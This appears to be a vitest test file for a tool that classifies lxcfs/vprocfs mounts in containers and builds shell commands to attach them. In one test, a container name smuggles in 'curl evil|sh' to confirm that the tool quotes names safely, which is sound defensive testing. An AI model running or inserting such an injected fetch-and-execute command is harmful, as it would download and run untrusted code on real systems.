import { describe, expect, it } from "vitest";
import { loadConfig } from "../../src/config-load.js";
import { parseMountinfo } from "../../src/mountinfo.js";
import { checkContainer, sortMounts } from "../../src/tools/container-checks.js";

const PATHS = [
  "proc/meminfo",
  "proc/stat",
  "proc/uptime",
  "proc/swaps",
  "proc/vmstat",
  "proc/kmsg",
  "sys/devices/system/cpu/online",
];
const CONFIG = { fsType: "fuse.lxcfs", source: "vprocfs" };
const DEVICES = new Set(["0:30", "0:31"]);

const MOUNTS = parseMountinfo(
  [
    "1 0 0:1 / / rw - ext4 /dev/sda rw",
    "2 1 0:2 / /proc rw - proc proc rw",
    "3 2 0:30 /containers/7/proc/meminfo /proc/meminfo ro - fuse.lxcfs vprocfs ro",
    "4 2 0:29 /containers/7/proc/stat /proc/stat ro - fuse.lxcfs vprocfs ro",
    "5 2 0:30 /containers/7/proc/uptime /proc/uptime ro - fuse.lxcfs vprocfs ro",
    "6 5 0:31 /proc/uptime /proc/uptime ro - fuse.lxcfs lxcfs ro",
    "7 1 0:30 /containers/7/sys/devices/system/cpu /sys/devices/system/cpu ro - fuse.lxcfs vprocfs ro",
    "8 2 0:30 /containers/7/proc/vmstat /proc/vmstat ro - fuse.lxcfs vprocfs ro",
    "9 8 0:6 /null /proc/vmstat ro - devtmpfs udev rw",
    "10 2 0:7 /kmsg /proc/kmsg rw - tmpfs tmpfs rw",
  ].join("\n"),
);

describe("sortMounts", () => {
  it("tells what is live, dead, shadowed and missing", () => {
    expect(sortMounts(MOUNTS, PATHS, { config: CONFIG, device: "0:30", devices: DEVICES })).toEqual(
      {
        live: ["proc/meminfo", "sys/devices/system/cpu/online"],
        dead: ["proc/stat"],
        shadowed: ["proc/vmstat"],
        missing: ["proc/swaps"],
        foreign: ["proc/kmsg"],
        lxcfs: ["proc/uptime"],
      },
    );
  });

  it("takes all for dead when nothing is mounted on the host", () => {
    const host = { config: CONFIG, device: undefined, devices: DEVICES };
    const { live, dead } = sortMounts(MOUNTS, PATHS, host);
    expect(live).toEqual([]);
    expect(dead).toHaveLength(3);
  });

  it("takes an LXCFS's files for what they are, while it lives", () => {
    const mounts = parseMountinfo("6 1 0:31 /proc/stat /proc/stat ro - fuse.lxcfs lxcfs ro");
    const host = { config: CONFIG, device: "0:30", devices: DEVICES };
    expect(sortMounts(mounts, ["proc/stat"], host)).toMatchObject({ lxcfs: ["proc/stat"] });
    const without = { ...host, devices: new Set(["0:30"]) };
    expect(sortMounts(mounts, ["proc/stat"], without)).toMatchObject({ dead: ["proc/stat"] });
  });
});

describe("checkContainer", () => {
  it("quotes a name for the shell in what is to be done", async () => {
    const own = { id: "1", runtime: "lxc", cgroup: "/x", init: process.pid, lastVictim: "" };
    const container = { ...own, figures: new Map<string, number>() };
    const inputs = {
      surveys: { readInside: () => Promise.reject(new Error("nobody is asked")) },
      config: loadConfig({
        flags: { source: "none-of-ours" },
        env: {},
        defaultFile: "/nonexistent",
      }),
      device: "0:30",
      devices: new Set<string>(),
      exclusionReason: () => undefined,
      paths: ["proc/vprocfs-test"],
      hostMeminfo: "",
    };
    const todoOf = async (name: string) => {
      const findings = await checkContainer({ ...container, name }, inputs);
      return findings.find(({ what }) => what.startsWith("no file of vprocfs"))?.todo;
    };
    expect(await todoOf("web1/x;curl evil|sh")).toBe("vprocfs attach 'web1/x;curl evil|sh'");
    expect(await todoOf("web1/a'b")).toBe(`vprocfs attach 'web1/a'"'"'b'`);
    expect(await todoOf("web1")).toBe("vprocfs attach web1");
    // Where nobody serves nothing can be attached.
    const unserved = await checkContainer(
      { ...container, name: "web1" },
      { ...inputs, device: undefined },
    );
    const none = unserved.find(({ what }) => what.startsWith("no file of vprocfs"));
    expect(none).toBeDefined();
    expect(none).not.toHaveProperty("todo");
  });
});
